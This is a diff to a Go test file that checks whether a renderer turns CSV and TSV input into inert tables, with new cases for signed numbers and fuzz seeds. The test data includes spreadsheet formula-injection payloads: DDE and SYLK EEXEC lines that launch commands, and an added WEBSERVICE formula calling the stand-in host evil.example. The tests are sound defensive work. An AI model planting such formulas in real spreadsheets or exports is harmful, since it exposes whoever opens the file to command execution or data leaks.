@@ -163,6 +163,7 @@ func TestReview7_TablesAreInert(t *testing.T) {
 		"SYLK":                {".csv", "ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n"},
 		"broken quotes":       {".csv", "a\"b\",\"c\"d,\"=1\n=2"},
 		"HTML":                {".csv", "<table><tr><td>=1</td></tr></table>\n"},
+		"number and the next": {".csv", "-1,5*WEBSERVICE(\"http://evil.example\")\n+1,\n"},
 		"DDE":                 {".csv", "a,=DDE(\"cmd\";\"/C calc\";\"x\")\n"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -173,8 +174,8 @@ func TestReview7_TablesAreInert(t *testing.T) {
 			wantInertTable(t, got)
 		})
 	}
-	got, _ := renderFile(".tsv", "what\tprice\nmilk\t-1.50\nbread, white\t+2 €\nnote\ta-b = c\n")
-	if want := "\"what\",\"price\"\n\"milk\",\"-1.50\"\n\"bread, white\",\"+2 €\"\n\"note\",\"a-b ’= c\"\n"; got != want {
+	got, _ := renderFile(".tsv", "what\tprice\nmilk\t-1.50\nbread, white\t+2 €\nnote\ta-b = c\n-1.50 €\t+4930123\n+4930123\t-\n")
+	if want := "\"what\",\"price\"\n\"milk\",\"-1.50\"\n\"bread, white\",\"+2 €\"\n\"note\",\"a-b ’= c\"\n\"(1.50 €)\",\"+4930123\"\n\"’+4930123\",\"’-\"\n"; got != want {
 		t.Errorf("an honest table is\n%s\nwant\n%s", got, want)
 	}
 }
@@ -226,7 +227,7 @@ func FuzzRenderMarkdown(f *testing.F) {
 }
 
 func FuzzRenderTable(f *testing.F) {
-	for _, s := range []string{"a,=1", "a;=1", "00 ' +;=00", "sep=|\na|=1", "\"x\",\"y;=1\"", "'=1", "+1+2", "a\t=1"} {
+	for _, s := range []string{"a,=1", "a;=1", "00 ' +;=00", "sep=|\na|=1", "\"x\",\"y;=1\"", "'=1", "+1+2", "a\t=1", "+0,"} {
 		f.Add(s, true)
 		f.Add(s, false)
 	}
